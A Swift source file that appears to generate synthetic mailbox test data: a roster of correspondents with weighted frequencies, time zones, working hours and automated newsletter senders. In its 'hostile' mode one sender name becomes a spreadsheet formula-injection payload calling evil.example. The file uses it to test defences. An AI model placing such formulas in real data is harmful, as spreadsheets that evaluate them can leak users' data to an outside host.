import Foundation
import MailModel

/// Everyone the owner corresponds with. Human correspondents get Zipf-like weights (a few write
/// very often, most rarely), two more write once a month, automated senders never get
/// replies, and one-off senders are made fresh each time.
struct Roster: Sendable {
    static let ownerDomain = "northwind.example"

    static let ownerName = "Dana Whitfield"
    static let ownerAddress = "dana.whitfield@\(ownerDomain)"

    /// Where correspondents outside the company work, in turn: a third in the owner's zone, the
    /// rest spread over the continents. Colleagues work in the owner's office, one in five in a
    /// second one.
    static let elsewhere = ["America/Chicago", "America/Los_Angeles", "Europe/London", "Europe/Berlin",
                            "Asia/Tokyo", "Asia/Kolkata", "Australia/Sydney", "America/Sao_Paulo"]

    /// The custodian: the same name, address and hours in every scenario and for every seed.
    let owner: Person
    /// Colleagues and external correspondents, most frequent first.
    let regulars: [Person]
    let regularWeights: WeightedTable
    /// The owner picks whom to write to with the same skew, a little towards colleagues.
    let ownerTargetWeights: WeightedTable
    /// People copied on mail.
    let colleagues: [Person]
    /// Correspondents who write once a month: the first and the last business day.
    let monthly: [Person]
    let automated: [Person]
    let automatedWeights: WeightedTable
    /// One-off senders are spread over these.
    let oneOffZones: [Zone]

    init(size scale: Int, hostile: Bool, ownerZone: Zone, years: ClosedRange<Int>, rng: inout SeededRandom) {
        owner = Person(
            name: Self.ownerName, address: Self.ownerAddress, role: .owner, hours: WorkingHours(from: 8, to: 17.5),
            zone: ownerZone, repliesToOwner: 0, ownerReplies: 0, replyMedian: 2400)
        let zones = ([ownerZone.identifier] + Self.elsewhere).compactMap { Zone(identifier: $0, years: years) }
        let secondOffice = zones.first { $0 != ownerZone && $0.identifier != "America/Chicago" } ?? ownerZone
        monthly = [
            Person(
                name: "Priya Raman", address: "priya.raman@lucernepublishing.example", role: .external,
                hours: WorkingHours(from: 8.5, to: 17), zone: zones[2], repliesToOwner: 0.6, ownerReplies: 0.3,
                replyMedian: 5400),
            Person(
                name: "Tom Becker", address: "tom.becker@\(Self.ownerDomain)", role: .colleague,
                hours: WorkingHours(from: 7.5, to: 16.5), zone: ownerZone, repliesToOwner: 0.7, ownerReplies: 0.25,
                replyMedian: 3600),
        ]
        automated = Self.automatedSenders(hostile: hostile)
        oneOffZones = zones
        automatedWeights = WeightedTable([0.30, 0.12, 0.05, 0.08, 0.17, 0.16, 0.12])

        var taken = Set([Self.ownerAddress] + monthly.map(\.address) + automated.map(\.address))
        var firsts = Names.first, lasts = Names.last
        rng.shuffle(&firsts)
        rng.shuffle(&lasts)
        var people: [Person] = []
        let colleagueCount = 14 * scale, externalCount = 28 * scale
        for i in 0..<(colleagueCount + externalCount) {
            let first = firsts[i % firsts.count]
            let last = lasts[(i / firsts.count + i) % lasts.count]
            let isColleague = i < colleagueCount
            let domain = isColleague ? Self.ownerDomain : Names.companies[rng.below(Names.companies.count)]
            var local = "\(first).\(last)".lowercased().filter { $0.isLetter || $0 == "." }
            var suffix = 2
            while taken.contains("\(local)@\(domain)") {
                local = "\(first).\(last)\(suffix)".lowercased().filter { $0.isLetter || $0.isNumber || $0 == "." }
                suffix += 1
            }
            taken.insert("\(local)@\(domain)")
            let start = 7.0 + Double(rng.below(5)) * 0.5
            let zone = isColleague
                ? (i % 5 == 4 ? secondOffice : ownerZone)
                : (i % 3 == 0 ? ownerZone : zones[1 + (i / 3) % (zones.count - 1)])
            people.append(Person(
                name: "\(first) \(last)", address: "\(local)@\(domain)",
                role: isColleague ? .colleague : .external,
                hours: WorkingHours(from: start, to: start + 8.5 + Double(rng.below(3)) * 0.5), zone: zone,
                repliesToOwner: 0.35 + 0.45 * rng.unit(),
                ownerReplies: 0.3 + 0.4 * rng.unit(),
                replyMedian: 1800 + 7200 * rng.unit()))
        }
        colleagues = Array(people[0..<colleagueCount])
        rng.shuffle(&people)
        if hostile {
            // Hostile names on correspondents of every frequency, so each shows up often.
            for (offset, name) in Hostile.names.enumerated() where offset * 2 < people.count {
                people[offset * 2].name = name
            }
        }
        regulars = people
        // Zipf–Mandelbrot (exponent 1.1, offset 1) over the shuffled order: the head is steep but
        // no single person carries a quarter of the mail.
        let zipf = people.indices.map { 1 / pow(Double($0 + 2), 1.1) }
        regularWeights = WeightedTable(zipf)
        ownerTargetWeights = WeightedTable(zip(zipf, people).map { w, p in
            if case .colleague = p.role { return w * 1.5 }
            return w
        })
    }

    /// A correspondent who writes once and never again.
    func oneOff(number: Int, rng: inout SeededRandom) -> Person {
        let first = rng.pick(Names.first), last = rng.pick(Names.last)
        let domain = rng.pick(Names.freemail)
        let local = "\(first).\(last)\(number)".lowercased().filter { $0.isLetter || $0.isNumber || $0 == "." }
        return Person(
            name: "\(first) \(last)", address: "\(local)@\(domain)", role: .oneOff,
            hours: WorkingHours(from: 9, to: 20), zone: oneOffZones[number % oneOffZones.count],
            repliesToOwner: 0, ownerReplies: 0, replyMedian: 3600)
    }

    private static func automatedSenders(hostile: Bool) -> [Person] {
        func bot(_ name: String, _ address: String, _ style: Person.AutomatedStyle, _ subjects: [String]) -> Person {
            let domain = address.split(separator: "@")[1]
            var headers: [String]
            switch style {
            case .newsletter:
                headers = [
                    "List-Unsubscribe: <mailto:unsubscribe@\(domain)?subject=unsubscribe>, <https://\(domain)/unsubscribe>",
                    "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                    "List-Id: <news.\(domain)>",
                    "Precedence: bulk",
                ]
            case .notification, .receipt:
                headers = ["Auto-Submitted: auto-generated", "X-Auto-Response-Suppress: All"]
            }
            // Systems keep UTC.
            return Person(
                name: name, address: address, role: .automated(style), hours: WorkingHours(from: 6, to: 22),
                zone: .utc, repliesToOwner: 0, ownerReplies: 0, replyMedian: 0, extraHeaders: headers, subjects: subjects)
        }
        return [
            bot("Tracker Notifications", "noreply@tracker.example", .notification, [
                "[Tracker] FAL-# updated", "[Tracker] ORN-# assigned to you", "[Tracker] Build # failed",
                "[Tracker] Review requested on change #",
            ]),
            bot("Northwind Service Desk", "servicedesk-noreply@northwind.example", .notification, [
                "Ticket INC# has been updated", "Ticket INC# resolved", "Scheduled maintenance notice #",
            ]),
            bot("Northwind Payroll", "no-reply@payroll.example", .receipt, ["Your payslip for % is available"]),
            bot("Expenses", "expenses-noreply@northwind.example", .receipt, [
                "Expense report # approved", "Expense report # needs a receipt",
            ]),
            bot(hostile ? "=IMPORTXML(\"http://evil.example\",\"//a\")" : "Industry Weekly",
                "news@industryweekly.example", .newsletter(hour: 14), ["Industry Weekly: issue #"]),
            bot("Cloud Digest", "digest@clouddigest.example", .newsletter(hour: 6), [
                "Your Cloud Digest #", "Cloud Digest: what changed this week (#)",
            ]),
            bot("Margie's Travel Deals", "deals@margiestravel.example", .newsletter(hour: 17), [
                "Deals of the week #", "Last-minute fares from $#",
            ]),
        ]
    }
}
